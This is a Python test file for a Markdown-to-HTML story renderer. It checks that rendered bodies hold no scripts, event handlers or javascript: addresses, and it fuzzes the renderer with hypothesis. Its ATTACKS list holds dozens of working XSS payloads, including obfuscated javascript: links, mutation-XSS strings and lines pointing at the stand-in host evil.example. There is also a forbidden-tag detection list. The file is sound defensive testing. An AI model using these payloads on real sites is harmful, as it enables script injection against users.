"""Whatever Markdown or HTML a body holds, its page stays safe."""

import re

import pytest
from hypothesis import given
from hypothesis import strategies as st
from selectolax.lexbor import LexborHTMLParser

from story_rendering import body_of

FORBIDDEN = "script, style, object, embed, form, input, button, base, link, meta, svg, math, template, noscript, frame"
ADDRESSES = ("href", "src", "poster", "action", "cite", "formaction", "srcset", "data", "xlink:href", "ping")
SCHEME = re.compile(r"[a-z][a-z0-9+.-]*:")
HARMLESS = ("http:", "https:", "mailto:", "tel:")


def dangers(html: str) -> list[str]:
    """What a browser could run in this HTML."""
    tree = LexborHTMLParser(f"<!doctype html><body>{html}</body>")
    found = [str(node.tag) for node in tree.css(FORBIDDEN)]
    for node in tree.css("body *"):
        for name, value in node.attrs.items():
            address = "".join(c for c in (value or "") if c > " ").casefold()
            if name.startswith("on") or name in ("style", "srcdoc"):
                found.append(f"{node.tag} {name}")
            if name in ADDRESSES and SCHEME.match(address) and not address.startswith(HARMLESS):
                found.append(f"{node.tag} {name}={value}")
    return found


ATTACKS = [
    "<script>alert(1)</script>",
    "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
    "<scr<script>ipt>alert(1)</script>",
    "[x](javascript:alert(1))",
    "[x](JaVaScRiPt:alert(1))",
    "[x](&#106;avascript:alert(1))",
    "[x](java&#10;script:alert(1))",
    '<a href=" &#1;javascript:alert(1)">x</a>',
    "[x](data:text/html;base64,PHNjcmlwdD4=)",
    "[x](vbscript:x)",
    "<javascript:alert(1)>",
    "![x](javascript:alert(1))",
    '![x](cau.png "&quot; onload=&quot;alert(1)")',
    '![x](cau.png "<script>alert(1)</script> | <img src=x onerror=y>")',
    '![x" onerror="alert(1)](cau.png)',
    '<img src="cau.png" class="&quot; onload=&quot;x">',
    '<a href="https://x.example/&quot;onclick=&quot;x"><img src="cau.png"></a>',
    '[x](nhan-muon.md){: onclick="x" href="javascript:x" }',
    "# x {: onclick=alert(1) style=x }",
    '<h1 id="&quot;&gt;&lt;script&gt;x&lt;/script&gt;">x</h1>',
    "# <img src=x onerror=alert(1)>",
    "<img src=x onerror=alert(1)//",
    "<svg><script>x</script></svg>",
    '<svg><a xlink:href="javascript:x"><text>x</text></a></svg>',
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
    "<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>",
    '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
    "<template><img src=x onerror=y></template>",
    "<style>@import '//evil.example'</style>",
    '<p style="background:url(javascript:x)">x</p>',
    "<base href=//evil.example>",
    "<meta http-equiv=refresh content=0;url=//evil.example>",
    "<object data=x></object><embed src=x>",
    "<form action=javascript:x><button formaction=javascript:x>",
    '<iframe srcdoc="<script>x</script>"></iframe>',
    '<iframe src="javascript:alert(1)"></iframe>',
    '<video src="javascript:x" poster="javascript:y" onerror=z></video>',
    "<details open ontoggle=alert(1)>x</details>",
    '<q cite="javascript:x">x</q><blockquote cite="javascript:x">x</blockquote>',
    "<!--><script>x</script>-->",
    "<![CDATA[><script>x</script>]]>",
    '```"><script>x</script>\nx\n```',
    "*[x]: <script>y</script>\n\nx",
    "[^1]\n\n[^1]: <script>x</script>",
    "|a|\n|-|\n|<script>x</script>|",
    '<div markdown="1"><script>x</script>\n*a*</div>',
]


@pytest.mark.parametrize("text", ATTACKS)
def test_no_known_attack_gets_through(text):
    """Scripts, handlers, styles and javascript: addresses never reach the page."""
    assert [] == dangers(body_of(text).html)


PIECES = [
    "<",
    ">",
    '"',
    "'",
    "=",
    "/",
    " ",
    "\n",
    "\n\n",
    "&",
    ";",
    "&quot;",
    "&lt;",
    "&#10;",
    "`",
    "[",
    "](",
    ")",
    "![",
    "|",
    "#",
]
PIECES += [
    "{: ",
    "}",
    "script",
    "img",
    "src",
    "svg",
    "math",
    "style",
    "a href",
    "onerror",
    "javascript:",
    "iframe",
    "title",
    "x",
]
PIECES += [
    "<script>",
    "</script>",
    "<img src=x onerror=y>",
    "<!--",
    "-->",
    "<p ",
    "<table>",
    "<td align=",
    "<h2 id=",
    "cau.png",
]


@given(st.one_of(st.lists(st.sampled_from(PIECES), max_size=30).map("".join), st.text(max_size=60)))
def test_no_markdown_at_all_gets_a_script_through(text):
    """For any text the body has no script, no handler and no address that runs code."""
    assert [] == dangers(body_of(text).html)


@given(
    st.lists(
        st.sampled_from(["# a", "## a {#b}", "<h2 id=a>", "a", "\n\n", "|a|\n|-|\n|b|", "- ", "> ", "*b*"]), max_size=12
    )
)
def test_what_was_rendered_is_well_formed(pieces):
    """A body read again by an HTML parser is the same body, so nothing in it spills over into the page."""
    html = body_of("".join(pieces)).html
    again = LexborHTMLParser(html, is_fragment=True).html or ""
    assert again == html
